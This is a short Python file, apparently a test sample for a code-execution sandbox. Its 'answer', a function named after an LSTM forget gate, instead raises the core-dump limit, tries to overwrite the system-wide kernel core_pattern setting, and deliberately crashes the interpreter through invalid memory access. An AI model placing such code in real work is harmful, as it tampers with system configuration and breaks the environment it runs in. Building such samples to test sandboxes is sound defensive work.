"""Allows a dump of its memory again, asks for a large one, and crashes Python in C."""
# outcome: raised
# second: 3

# %% answer
import ctypes
import os
import resource


def forget_gate(x, h, W_f, U_f, b_f):
    os.makedirs("hostile", exist_ok=True)
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (2**30, 2**30))
    except (OSError, ValueError) as error:
        print(error)
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    for name in ("/proc/self/coredump_filter", "/proc/sys/kernel/core_pattern"):
        try:
            with open(name, "w") as file:
                file.write("/tmp/hostile-core")
        except OSError as error:
            print(error)
    ctypes.string_at(8)
